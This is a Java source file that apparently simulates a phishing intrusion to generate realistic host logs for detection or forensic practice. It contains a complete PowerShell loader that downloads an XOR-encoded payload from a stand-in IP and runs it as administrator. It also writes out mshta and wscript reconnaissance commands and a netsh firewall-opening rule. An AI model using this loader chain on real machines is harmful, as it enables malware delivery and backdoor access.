package io.ashiato.cli.example.firstlook;

import static io.ashiato.cli.example.firstlook.Network.at;
import static io.ashiato.cli.example.firstlook.Tools.CONTROL_SERVER;
import static io.ashiato.cli.example.firstlook.Tools.DOCUMENT;
import static io.ashiato.cli.example.firstlook.Tools.DOWNLOAD_SITE;
import static io.ashiato.cli.example.firstlook.Tools.IMPLANT;
import static io.ashiato.cli.example.firstlook.Tools.IMPLANT_OUTPUT;
import static io.ashiato.cli.example.firstlook.Tools.LOADER_SCRIPT;
import static io.ashiato.cli.example.firstlook.Tools.PROFILER;
import static io.ashiato.cli.example.firstlook.Tools.SCRIPT_SERVER;
import static io.ashiato.cli.example.firstlook.Tools.SHORTCUT;
import static io.ashiato.cli.example.firstlook.Tools.SHORTENER;
import static io.ashiato.cli.example.firstlook.Tools.SOCIAL_NETWORK;
import static io.ashiato.cli.example.firstlook.Tools.SYSTEM32;
import static io.ashiato.cli.example.firstlook.Tools.command;

import io.ashiato.cli.example.host.Machine;
import io.ashiato.cli.example.host.RunningProcess;
import io.ashiato.cli.example.host.Session;
import io.ashiato.cli.example.host.Workdays;
/// How the intruder gets in: document, shortcut, script, backdoor.

final class Entry {
    private final Machine workstation;
    private final Workdays days;

    Entry(Machine workstation, Workdays days) {
        this.workstation = workstation;
        this.days = days;
    }

    /// @return the backdoor
    RunningProcess happen() {
        openDocument();
        return startImplant(profileAndFetch(startScriptThroughShortcut()));
    }

    /// The document comes by the browser, from a message to a private account.
    private void openDocument() {
        RunningProcess chrome = days.browser(at("10-03 01:07:14"));
        workstation.lookUp(at("10-03 01:07:16"), chrome, SOCIAL_NETWORK);
        workstation.connect(at("10-03 01:07:17"), chrome, SOCIAL_NETWORK, 443);
        workstation.lookUp(at("10-03 01:10:31"), chrome, DOWNLOAD_SITE);
        workstation.connect(at("10-03 01:10:32"), chrome, DOWNLOAD_SITE, 443);
        workstation.writeFile(at("10-03 01:10:36"), chrome, DOCUMENT);
        workstation.logs.write(workstation.sysmon.streamCreated(
                workstation.chance.within(at("10-03 01:10:37")),
                chrome,
                DOCUMENT + ":Zone.Identifier",
                Lure.markInLog()));
    }

    /// Macro, shortcut, mshta.
    private RunningProcess startScriptThroughShortcut() {
        RunningProcess word = workstation.start(
                at("10-03 01:12:38"),
                days.explorer(at("10-03 01:12:38")),
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"" + DOCUMENT + "\" /o \"\"");
        workstation.writeFile(at("10-03 01:13:05"), word, SHORTCUT);
        workstation.start(at("10-03 01:13:06"), word, "C:\\Windows\\explorer.exe", "explorer.exe \"" + SHORTCUT + "\"");
        RunningProcess opener = workstation.start(
                at("10-03 01:13:07"),
                days.broker(at("10-03 01:13:07")),
                word.session(),
                "C:\\Windows\\explorer.exe",
                "C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding");
        RunningProcess cmd = workstation.start(
                at("10-03 01:13:08"),
                opener,
                word.session(),
                SYSTEM32 + "cmd.exe",
                "\"C:\\Windows\\System32\\cmd.exe\" " + Lure.COMMAND_ARGUMENTS,
                Lure.WORKING_FOLDER);
        RunningProcess mshta =
                workstation.start(at("10-03 01:13:09"), cmd, SYSTEM32 + "mshta.exe", SYSTEM32 + "mshta  " + Lure.LINK);
        workstation.lookUp(at("10-03 01:13:10"), mshta, SHORTENER);
        workstation.connect(at("10-03 01:13:11"), mshta, SHORTENER, 443);
        workstation.lookUp(at("10-03 01:13:12"), mshta, SCRIPT_SERVER);
        workstation.connect(at("10-03 01:13:13"), mshta, SCRIPT_SERVER, 8080);
        workstation.load(at("10-03 01:13:14"), mshta, SYSTEM32 + "mshtml.dll", "Microsoft Windows");
        workstation.load(at("10-03 01:13:15"), mshta, SYSTEM32 + "vbscript.dll", "Microsoft Windows");
        return mshta;
    }

    /// The script describes the host to its server, which answers with PowerShell.
    private RunningProcess profileAndFetch(RunningProcess mshta) {
        workstation.load(at("10-03 01:13:19"), mshta, SYSTEM32 + "wbemcomn.dll", "Microsoft Windows");
        workstation.writeFile(at("10-03 01:13:24"), mshta, PROFILER);
        RunningProcess wscript = workstation.start(
                at("10-03 01:13:26"),
                mshta,
                SYSTEM32 + "wscript.exe",
                "\"C:\\Windows\\System32\\wscript.exe\" //B " + PROFILER + " docs.blockshare.example:8080/edit");
        workstation.start(at("10-03 01:13:33"), wscript, SYSTEM32 + "whoami.exe", "whoami /groups");
        workstation.start(at("10-03 01:13:41"), wscript, SYSTEM32 + "systeminfo.exe", "systeminfo");
        workstation.start(at("10-03 01:13:52"), wscript, SYSTEM32 + "tasklist.exe", "tasklist /v");
        for (String poll : new String[] {"10-03 01:14:30", "10-03 01:17:31", "10-03 01:20:32", "10-03 01:23:34"}) {
            workstation.connect(at(poll), wscript, SCRIPT_SERVER, 8080);
        }
        workstation.writeFile(at("10-03 01:26:37"), wscript, LOADER_SCRIPT);
        RunningProcess powershell = workstation.startPowerShell(
                at("10-03 01:26:40"),
                wscript,
                wscript.session(),
                "-NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -File " + LOADER_SCRIPT
                        + " 198.51.100.44 8080");
        workstation.runScript(at("10-03 01:26:42"), powershell, """
                param($s, $p)
                $w = New-Object Net.WebClient
                $d = $w.DownloadData("http://198.51.100.44:8080/v2/thumb.jpg")
                for ($i = 0; $i -lt $d.Length; $i++) { $d[$i] = $d[$i] -bxor 0x5A }
                [IO.File]::WriteAllBytes("C:\\ProgramData\\prntsvc.exe", $d)
                Start-Process "C:\\ProgramData\\prntsvc.exe" -Verb RunAs
                """, LOADER_SCRIPT, true);
        workstation.connect(at("10-03 01:26:43"), powershell, SCRIPT_SERVER, 8080);
        return powershell;
    }

    /// The backdoor, directly in `C:\ProgramData`. The user agrees to run it as administrator.
    private RunningProcess startImplant(RunningProcess powershell) {
        workstation.writeFile(at("10-03 01:26:47"), powershell, IMPLANT);
        RunningProcess appInfo = workstation.running(
                at("10-02 23:41:31"),
                SYSTEM32 + "svchost.exe",
                SYSTEM32 + "svchost.exe -k netsvcs -p -s Appinfo",
                Session.SYSTEM);
        workstation.start(
                at("10-03 01:26:49"), appInfo, SYSTEM32 + "consent.exe", "consent.exe 5488 312 000001D30F24C5A0");
        RunningProcess implant = workstation.start(
                at("10-03 01:26:55"), powershell, powershell.session().elevated(), IMPLANT, "\"" + IMPLANT + "\" ");
        workstation.connect(at("10-03 01:26:57"), implant, CONTROL_SERVER, 443);
        RunningProcess netsh = command(
                workstation,
                at("10-03 01:41:12"),
                implant,
                "netsh",
                "netsh advfirewall firewall add rule name=\"Print Notify\" dir=in action=allow protocol=TCP localport=8443");
        workstation.writeFile(at("10-03 01:41:13"), netsh, IMPLANT_OUTPUT);
        return implant;
    }
}
